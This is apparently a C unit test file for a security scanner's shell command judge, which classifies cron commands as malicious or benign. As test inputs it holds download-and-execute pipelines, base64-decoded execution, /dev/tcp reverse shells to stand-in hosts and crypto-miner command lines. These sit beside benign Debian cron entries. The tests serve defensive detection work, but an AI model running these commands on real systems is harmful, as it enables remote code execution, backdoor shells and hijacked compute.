/* test_cmdjudge.c - unit tests of checks/cmdjudge.c: the shell command judge against the
 * builtin rules: what attackers put in cron, and what Debian itself puts there */
#include <string.h>

#include "internal.h"
#include "t.h"

static mt_rules *rules;

static mt_cmd_verdict judge(const char *cmd)
{
	mt_cmd_verdict v;
	/* an exact-size copy without NUL: the judge must stay inside [cmd, cmd+n) */
	size_t n = strlen(cmd);
	char *copy = malloc(n ? n : 1);
	REQUIRE_NOT_NULL(copy);
	memcpy(copy, cmd, n);
	mt_judge_command(rules, copy, n, &v);
	free(copy);
	return v;
}

/* The reason with code, or NULL. */
static const char *reason_detail(const mt_cmd_verdict *v, const char *code)
{
	for (unsigned i = 0; i < v->nreasons && i < 8; i++)
		if (strcmp(v->reasons[i].code, code) == 0)
			return v->reasons[i].detail;
	return NULL;
}

static int reason_sev(const mt_cmd_verdict *v, const char *code)
{
	for (unsigned i = 0; i < v->nreasons && i < 8; i++)
		if (strcmp(v->reasons[i].code, code) == 0)
			return (int)v->reasons[i].severity;
	return -1;
}

static const mt_rule *reason_rule(const mt_cmd_verdict *v, const char *code)
{
	for (unsigned i = 0; i < v->nreasons && i < 8; i++)
		if (strcmp(v->reasons[i].code, code) == 0)
			return v->reasons[i].rule;
	return NULL;
}

/* "code,code,..." of all reasons, for failure messages and exact comparisons. */
static const char *codes(const mt_cmd_verdict *v)
{
	static char out[512];
	out[0] = '\0';
	for (unsigned i = 0; i < v->nreasons && i < 8; i++) {
		size_t l = strlen(out);
		snprintf(out + l, sizeof(out) - l, "%s%s", i ? "," : "", v->reasons[i].code);
	}
	return out;
}

#define HAS(v, code) ASSERT_STR_CONTAINS(codes(&(v)), code)

static void test_malicious(void)
{
	mt_cmd_verdict v;

	TEST_START("curl | bash is download_exec, critical");
	v = judge("curl -fsSL http://x.example/a.sh | bash");
	ASSERT_NOT_NULL(reason_detail(&v, "download_exec"));
	ASSERT_INT_EQ(reason_sev(&v, "download_exec"), MT_SEV_CRITICAL);
	ASSERT_INT_EQ(v.severity, MT_SEV_CRITICAL);
	ASSERT_NULL(reason_detail(&v, "download")); /* not both */
	v = judge("wget -qO- http://x.example/a.sh|sh");
	HAS(v, "download_exec");
	v = judge("curl -s http://x.example/a.sh | /bin/bash -s");
	HAS(v, "download_exec");
	TEST_DONE();

	TEST_START("(curl || wget) | sh");
	v = judge("(curl -s http://203.0.113.5/x.sh || wget -q -O- http://203.0.113.5/x.sh) | sh");
	HAS(v, "download_exec");
	ASSERT_INT_EQ(v.severity, MT_SEV_CRITICAL);
	TEST_DONE();

	TEST_START("download to a hidden temp path, chmod, run");
	v = judge("wget -q http://h/x -O /tmp/.x/k; chmod +x /tmp/.x/k; /tmp/.x/k");
	HAS(v, "download_exec");
	HAS(v, "tmp_exec");
	HAS(v, "hidden_exec");
	ASSERT_STR_EQ(reason_detail(&v, "tmp_exec"), "/tmp/.x/k");
	ASSERT_STR_EQ(reason_detail(&v, "hidden_exec"), "/tmp/.x/k");
	ASSERT_INT_EQ(reason_sev(&v, "tmp_exec"), MT_SEV_HIGH);
	ASSERT_INT_EQ(v.severity, MT_SEV_CRITICAL);
	v = judge("curl -o /dev/shm/m http://h/m && chmod 755 /dev/shm/m && /dev/shm/m");
	HAS(v, "download_exec");
	HAS(v, "tmp_exec");
	TEST_DONE();

	TEST_START("base64 -d | bash");
	v = judge("echo ZWNobyBoaQ== | base64 -d | bash");
	HAS(v, "base64_exec");
	ASSERT_INT_EQ(v.severity, MT_SEV_CRITICAL);
	ASSERT_NULL(reason_detail(&v, "download_exec"));
	v = judge("echo ZWNobyBoaQ== | base64 --decode | sh");
	HAS(v, "base64_exec");
	v = judge("bash -c \"$(echo ZWNobyBoaQ== | base64 -d)\"");
	HAS(v, "base64_exec");
	TEST_DONE();

	TEST_START("a known miner name");
	v = judge("/bin/dhpcd");
	HAS(v, "miner_name");
	ASSERT_INT_EQ(v.severity, MT_SEV_CRITICAL);
	const mt_rule *x = reason_rule(&v, "miner_name");
	REQUIRE_NOT_NULL(x);
	ASSERT_STR_EQ(x->value, "dhpcd");
	ASSERT_STR_EQ(reason_detail(&v, "miner_name"), "/bin/dhpcd");
	v = judge("cd /opt/x && ./XMRig --config=c.json");
	HAS(v, "miner_name");
	TEST_DONE();

	TEST_START("bash -c '...': the nested command is judged too");
	v = judge("bash -c 'curl http://pastebin.com/raw/x | sh'");
	HAS(v, "paste_host");
	HAS(v, "download_exec");
	ASSERT_STR_EQ(reason_detail(&v, "paste_host"), "pastebin.com");
	ASSERT_INT_EQ(reason_sev(&v, "paste_host"), MT_SEV_HIGH);
	ASSERT_INT_EQ(v.severity, MT_SEV_CRITICAL);
	v = judge("/bin/sh -c \"wget -q -O - http://x.example/i | sh\"");
	HAS(v, "download_exec");
	TEST_DONE();

	TEST_START("a miner from /tmp with a pool host");
	v = judge("nohup /tmp/kworker -o pool.minexmr.com:4444");
	HAS(v, "tmp_exec");
	HAS(v, "ioc_host");
	ASSERT_STR_EQ(reason_detail(&v, "tmp_exec"), "/tmp/kworker");
	ASSERT_STR_EQ(reason_detail(&v, "ioc_host"), "pool.minexmr.com");
	x = reason_rule(&v, "ioc_host");
	REQUIRE_NOT_NULL(x);
	ASSERT_INT_EQ(x->kind, MT_RK_POOL_DOMAIN);
	ASSERT_INT_EQ(v.severity, MT_SEV_CRITICAL);
	v = judge("/usr/local/bin/x -o stratum+tcp://XMR.Pool.MineXMR.com:443 -u 4abc");
	HAS(v, "ioc_host");
	HAS(v, "miner_cmdline");
	TEST_DONE();

	TEST_START("indicator addresses from the seeds");
	v = judge("/usr/bin/dhpcd -o 139.99.125.38:443");
	HAS(v, "ioc_ip");
	HAS(v, "miner_name");
	v = judge("curl http://93.240.52.232:3389/job");
	HAS(v, "ioc_ip");
	x = reason_rule(&v, "ioc_ip");
	REQUIRE_NOT_NULL(x);
	ASSERT_INT_EQ(x->kind, MT_RK_C2_IPPORT);
	TEST_DONE();

	TEST_START("reverse shell through /dev/tcp");
	v = judge("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1");
	HAS(v, "dev_tcp");
	ASSERT_INT_GE(v.severity, MT_SEV_HIGH);
	v = judge("exec 5<>/dev/tcp/203.0.113.7/80; cat <&5 | bash");
	HAS(v, "dev_tcp");
	v = judge("sh -i >/dev/udp/203.0.113.7/53 2>&1");
	HAS(v, "dev_tcp");
	v = judge("/bin/bash -c 'bash -i > /dev/tcp/203.0.113.7/4444 0<&1 2>&1'");
	HAS(v, "dev_tcp");
	TEST_DONE();

	TEST_START("a redirection target is not the command");
	v = judge("echo x > /tmp/.hidden/run; true");
	ASSERT_INT_EQ(v.nreasons, 0);
	v = judge(">/dev/null /tmp/.x/k");  /* a redirection before the command */
	HAS(v, "tmp_exec");
	HAS(v, "hidden_exec");
	v = judge("nohup >/dev/null /bin/dhpcd");
	HAS(v, "miner_name");
	TEST_DONE();
}

static void test_benign(void)
{
	static const char *const benign[] = {
		/* Debian's /etc/crontab and /etc/cron.d */
		"test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
		"[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then "
		"/usr/lib/php/sessionclean; fi",
		"command -v debian-sa1 > /dev/null && debian-sa1 1 1",
		"find /tmp -type f -atime +10 -delete",
		"rm -f /tmp/foo.lock",
		"/usr/bin/certbot -q renew",
		"cd / && run-parts --report /etc/cron.hourly",
		"test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep "
		"int(rand(43200))' && certbot -q renew",
		"if [ -x /usr/share/mdadm/checkarray ] && [ $(date +%d) -le 7 ]; then "
		"/usr/share/mdadm/checkarray --cron --all --idle --quiet; fi",
		"[ -x /usr/lib/sysstat/debian-sa1 ] && /usr/lib/sysstat/debian-sa1 1 1",
		"/usr/sbin/logrotate /etc/logrotate.conf",
		"/sbin/dhcpcd -q eth0", /* the real DHCP client, not dhpcd */
		"cd /var/www/app && php artisan schedule:run >> /dev/null 2>&1",
		"/usr/bin/python3 /opt/app/manage.py clearsessions",
		"test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/"
		"e2scrub_all_cron",
		"",
		"   ",
	};
	TEST_START("benign Debian cron commands give no reason at all");
	for (size_t i = 0; i < MT_ARRAY_LEN(benign); i++) {
		mt_cmd_verdict v = judge(benign[i]);
		if (v.nreasons)
			fprintf(stderr, "  benign \"%s\" -> %s\n", benign[i], codes(&v));
		ASSERT_INT_EQ(v.nreasons, 0);
		ASSERT_INT_EQ(v.severity, MT_SEV_INFO);
	}
	TEST_DONE();

	TEST_START("a plain download is only medium");
	mt_cmd_verdict v = judge("curl -fsS -m 10 -o /dev/null https://hc-ping.com/abc");
	ASSERT_STR_EQ(codes(&v), "download");
	ASSERT_INT_EQ(v.severity, MT_SEV_MEDIUM);
	TEST_DONE();
}

static void test_robust(void)
{
	mt_cmd_verdict v;

	TEST_START("only [cmd, cmd+n) is judged");
	const char *s = "/bin/true; /bin/dhpcd";
	mt_judge_command(rules, s, 9, &v);
	ASSERT_INT_EQ(v.nreasons, 0);
	mt_judge_command(rules, s, strlen(s), &v);
	HAS(v, "miner_name");
	s = "echo aGk= | base64 | bash; x -d";
	mt_judge_command(rules, s, 24, &v);
	ASSERT_NULL(reason_detail(&v, "base64_exec"));
	TEST_DONE();

	TEST_START("huge and hostile input does not crash, verdict is still filled");
	size_t n = 200000;
	char *big = malloc(n);
	REQUIRE_NOT_NULL(big);
	static const char alphabet[] = "a b|c;'\"`$(){}<>&\\\n\t/.";
	for (size_t i = 0; i < n; i++)
		big[i] = alphabet[i % (sizeof(alphabet) - 1)];
	mt_judge_command(rules, big, n, &v);
	ASSERT_TRUE(v.nreasons <= 8);
	memset(big, 'x', n);
	memcpy(big, "curl http://x/", 14);
	memcpy(big + n - 6, " | sh", 5);
	big[n - 1] = ' ';
	mt_judge_command(rules, big, n, &v);
	ASSERT_TRUE(v.nreasons <= 8);
	/* many words: more than the judge keeps */
	for (size_t i = 0; i < n; i++)
		big[i] = i % 2 ? ' ' : 'w';
	memcpy(big + n - 12, "/bin/dhpcd  ", 12);
	mt_judge_command(rules, big, n, &v);
	ASSERT_TRUE(v.nreasons <= 8);
	/* unterminated quotes and a lone backslash at the very end */
	mt_judge_command(rules, "curl 'http://x | sh", 19, &v);
	mt_judge_command(rules, "curl \"http://x\\", 15, &v);
	mt_judge_command(rules, "$(", 2, &v);
	mt_judge_command(rules, ">", 1, &v);
	ASSERT_TRUE(v.nreasons <= 8);
	free(big);
	TEST_DONE();

	TEST_START("verdict_explain: reasons as evidence, once each");
	const mt_check_info *ci = mt_check_by_id("persist.cron");
	REQUIRE_NOT_NULL(ci);
	mt_finding *f = mt_finding_new(ci, MT_SEV_HIGH, 90);
	REQUIRE_NOT_NULL(f);
	v = judge("wget -q http://h/x -O /tmp/.x/k; chmod +x /tmp/.x/k; /tmp/.x/k");
	mt_verdict_explain(f, &v);
	char buf[64];
	const char *reasons = mt_finding_evidence(f, "reasons", buf, sizeof(buf));
	/* each code once (the path gives tmp_exec and hidden_exec only once each) */
	ASSERT_SIZE_EQ(reasons ? strlen(reasons) : 0,
	               strlen("download_exec,tmp_exec,hidden_exec"));
	ASSERT_STR_CONTAINS(reasons, "download_exec");
	ASSERT_STR_CONTAINS(reasons, "tmp_exec");
	ASSERT_STR_CONTAINS(reasons, "hidden_exec");
	ASSERT_STR_CONTAINS(f->explain[MT_LANG_EN], "downloads a program and runs it");
	ASSERT_STR_CONTAINS(f->explain[MT_LANG_ZH], "下载并执行程序");
	ASSERT_STR_CONTAINS(f->explain[MT_LANG_EN], "(/tmp/.x/k)");
	mt_finding_free(f);
	TEST_DONE();
}

int main(void)
{
	REQUIRE_INT_EQ(mt_rules_new(&rules), MT_OK);
	REQUIRE_INT_EQ(mt_rules_load_builtin(rules, NULL, NULL), MT_OK);
	test_malicious();
	test_benign();
	test_robust();
	mt_rules_free(rules);
	return T_DONE();
}
